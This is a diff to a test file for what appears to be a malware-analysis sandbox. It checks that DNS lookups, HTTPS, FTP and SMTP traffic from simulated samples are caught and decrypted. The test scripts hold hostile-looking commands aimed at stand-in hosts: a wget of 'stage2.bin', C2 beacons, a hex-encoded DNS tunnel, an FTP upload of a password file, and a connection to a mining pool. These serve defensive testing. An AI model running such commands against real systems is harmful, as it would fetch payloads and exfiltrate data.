@@ -87,7 +87,7 @@ test('network: each message of a sendmmsg is reported under its destination, eac
   ], JSON.stringify(r.network));
 });
 
-test('DNS: the names a sample looks up are answered by the sandbox\'s sinkhole and listed, its connect to the answer names the domain and meets the domain rules (fd.sip.name), and is caught inside the namespace with what it sent (an HTTP request); a replay gives the same', async () => {
+test('DNS: the names a sample looks up are answered by the sandbox\'s sinkhole and listed, its connect to the answer names the domain and meets the domain rules (fd.sip.name), and is caught inside the namespace with what it sent (an HTTP request, HTTPS from clients that check certificates and from one that does not; a client that pins a key sends nothing); a replay gives the same', async () => {
   const t = tempDir();
   try {
     const script = join(t.path, 'c2.sh');
@@ -97,6 +97,8 @@ RES_OPTIONS=use-vc getent ahostsv4 over-tcp.example.test
 for i in 1 2 3 4 5 6 7 8 9 10 11 12; do getent ahostsv4 6c6f6f742d6368756e6b2d6f662d6578$i.t.tunnel.test > /dev/null; done
 curl -sk -m 5 -A implant/2.1 -d id=7 -o /dev/null -w 'https: %{http_code}\\n' https://secure.example.test/api/beacon
 curl -s -m 5 -o /dev/null https://checked.example.test/ || echo 'checked: refused'
+wget -q -T 5 -t 1 -O /dev/null https://wget.example.test/dl/stage2.bin || echo 'wget: refused'
+curl -s -m 5 -o /dev/null --pinnedpubkey 'sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=' https://pinned.example.test/ || echo 'pinned: refused'
 python3 -c "
 import socket, urllib.request
 try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
@@ -166,8 +168,17 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.deepEqual(upload && [upload.domain, upload.port, upload.ftp], ['ftp.example.test', 21, { user: 'ops', password: 'ftp-pw', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(r.sessions));
     assert.ok(r.sessions?.some((c) => c.domain === 'ftp.example.test' && c.protocol === 'other' && c.preview === 'chrome: admin / letmein'), JSON.stringify(r.sessions));
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-004')?.output ?? '', /^FTP upload \(files=PW_devbox\.txt uploads=1 user=ops password=ftp-pw server=ftp\.example\.test .*process=python3 /);
+    // clients that check certificates against the system's CAs (curl with OpenSSL, wget with GnuTLS)
+    // trust the sandbox's authority, which issued one for the very name: read in the clear too; a
+    // client that pins its server's key refuses it, and is listed with its server name only
     const checked = tls('checked.example.test');
-    assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
+    assert.deepEqual(checked && [checked.protocol, checked.http?.method, checked.http?.path, checked.decrypted !== undefined], ['tls', 'GET', '/', true], JSON.stringify(r.sessions));
+    const wget = tls('wget.example.test');
+    assert.deepEqual(wget && [wget.protocol, wget.http?.path, wget.http?.userAgent?.startsWith('Wget/')], ['tls', '/dl/stage2.bin', true], JSON.stringify(r.sessions));
+    // (curl compares the pinned key once the handshake is done, so the handshake completed and nothing came through it)
+    const pinned = tls('pinned.example.test');
+    assert.deepEqual(pinned && [pinned.protocol, pinned.http, pinned.decrypted], ['tls', undefined, { bytes: 0, preview: '' }], JSON.stringify(r.sessions));
+    assert.deepEqual(r.dropped.filter((d) => d.path.startsWith('/etc/ssl/')), [], 'the CA bundle the sandbox extended is not the sample\'s change');
     assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
     // names carrying data under one domain (a DNS tunnel), judged from the sinkhole's log (a rule of source dns)
     assert.match(r.findings.find((f) => f.rule === 'ST-C2-018')?.output ?? '', /^DNS tunnel \(domain=tunnel\.test names=12 queries=\d+ longest_label=34 /, JSON.stringify(r.findings.map((f) => f.rule)));
@@ -188,10 +199,10 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.ok(ind.urls.includes('http://c2.example.test/gate.php?id=1') && ind.urls.includes('https://secure.example.test/api/beacon'), JSON.stringify(ind.urls));
     assert.deepEqual(ind.accounts, [{ protocol: 'smtp', user: 'logs@mail.example.test', password: 'Hunter2!' }, { protocol: 'ftp', user: 'ops', password: 'ftp-pw' }]);
     assert.match(html, /<h2 id="indicators">Indicators<\/h2>[\s\S]*<div class="argv">203\.0\.113\.7:5000<\/div>/);
-    assert.match(html, /Connections caught in the sandbox \(9\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(11\)[\s\S]*GET \/gate\.php\?id=1/);
     assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1 · body 4 bytes, sha256 [0-9a-f]{64}: id=7<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
     assert.match(html, /<td>smtp<\/td><td><span class="argv">mail from promo@shop\.example\.test to victim@example\.test · Subject: You won · HELO [^<]* · logged in as logs@mail\.example\.test \(AUTH PLAIN, password Hunter2!\)<\/span><div class="muted small">STARTTLS: decrypted/);
-    assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
+    assert.match(html, /server name pinned\.example\.test<\/span><div class="muted small">handshake completed, then nothing sent through it \(a sample that pins its server's key refuses the certificate only then\)/);
   } finally {
     t.cleanup();
   }
@@ -215,7 +226,7 @@ test('DNS with --dns nxdomain: the lookup fails as a name that does not exist, a
   }
 });
 
-test('DNS in the rootless sandbox: analyze run by an unprivileged user lists the lookups, names the domain of the connect, catches it and meets the domain rules', () => {
+test('DNS in the rootless sandbox: analyze run by an unprivileged user lists the lookups, names the domain of the connect, catches it and meets the domain rules; python\'s HTTPS with certificate checks is read in the clear there too', () => {
   const t = tempDir();
   try {
     chmodSync(t.path, 0o777); // nobody writes the report there
@@ -229,6 +240,8 @@ socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'HELLO bot-7', ('203.0.
 import smtplib
 try: smtplib.SMTP('mx.example.test', 25, timeout=5).sendmail('promo@shop.example.test', ['victim@example.test'], 'Subject: You won\\r\\n\\r\\nclick')
 except Exception as e: print('smtp:', e)
+import urllib.request
+print('https:', urllib.request.urlopen('https://panel.example.test/gate?id=9', timeout=5).status)
 "
 `, { mode: 0o755 });
     const out = join(t.path, 'out');
@@ -245,7 +258,12 @@ except Exception as e: print('smtp:', e)
     assert.deepEqual(connect && [connect.address, connect.domain, connect.result], [pool?.answer, 'gulf.moneroocean.stream', 'EINPROGRESS']);
     // caught there too; the namespace's conntrack table is not readable without root, so the port is the connect's (the datagram's: its sendto's)
     assert.deepEqual(report.sessions?.map((c) => [c.domain ?? c.address, c.port, c.transport ?? 'tcp', c.protocol]).sort(),
-      [['203.0.113.9', 7000, 'udp', 'other'], ['gulf.moneroocean.stream', 443, 'tcp', 'none'], ['mx.example.test', 25, 'tcp', 'smtp']], JSON.stringify(report.sessions));
+      [['203.0.113.9', 7000, 'udp', 'other'], ['gulf.moneroocean.stream', 443, 'tcp', 'none'], ['mx.example.test', 25, 'tcp', 'smtp'], ['panel.example.test', 443, 'tcp', 'tls']], JSON.stringify(report.sessions));
+    // python's default context checks the certificate against /etc's CA bundle, which (in the
+    // sandbox's writable copy of /etc) trusts the sandbox's authority: its request is read in the clear
+    const https = report.sessions?.find((c) => c.protocol === 'tls');
+    assert.deepEqual(https && [https.sni, https.http?.method, https.http?.path], ['panel.example.test', 'GET', '/gate?id=9'], JSON.stringify(https));
+    assert.deepEqual(report.dropped.filter((d) => d.path.startsWith('/etc/ssl/')), []);
     // greeted without knowing the port: SMTP's ports have a listener of their own
     assert.deepEqual(report.sessions?.find((c) => c.protocol === 'smtp')?.smtp?.from, 'promo@shop.example.test');
     assert.match(report.findings.find((f) => f.rule === 'ST-C2-010')?.output ?? '', /domain=gulf\.moneroocean\.stream /, JSON.stringify(report.findings.map((f) => f.rule)));
